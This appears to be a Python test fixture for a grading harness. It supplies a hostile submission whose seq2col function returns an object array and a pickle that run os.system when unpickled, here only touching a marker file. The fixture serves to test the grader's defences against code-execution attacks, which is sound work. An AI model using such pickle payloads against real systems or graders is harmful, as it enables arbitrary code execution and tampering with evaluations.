"""Returns a pickle and an object array crafted to run code when unpickled."""

HONEST = None  # a wrong-corpus entry holding this submission's honest work, if any
ATTACK = {  # cells replaced by hostile code (their honest content: nothing)
    'seq2col': "import pickle, os\nclass Boom:\n    def __reduce__(self):\n        return (os.system, ('touch /tmp/seqgrade-pwned',))\ndef seq2col(seq, filter_size):\n    return np.array([Boom()], dtype=object), pickle.dumps(Boom())",
}
ATTACK_CELLS = [  # hostile cells inserted after the imports
]
TOUCHES = ()  # exercises the attack itself may break (self-inflicted)
